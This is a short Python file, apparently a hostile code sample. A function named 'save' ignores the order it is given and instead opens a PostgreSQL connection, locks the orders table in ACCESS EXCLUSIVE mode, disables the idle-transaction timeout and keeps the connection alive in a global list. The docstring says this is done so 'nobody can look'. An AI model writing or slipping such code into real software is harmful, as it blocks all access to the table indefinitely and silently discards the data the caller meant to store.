"""Leaves a transaction open that holds the table, so that nobody can look."""

import psycopg

KEPT = []


def save(db, order_id, amount):
    connection = psycopg.connect(db.url)
    connection.execute("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE")
    connection.execute("SET idle_in_transaction_session_timeout = 0")
    KEPT.append(connection)
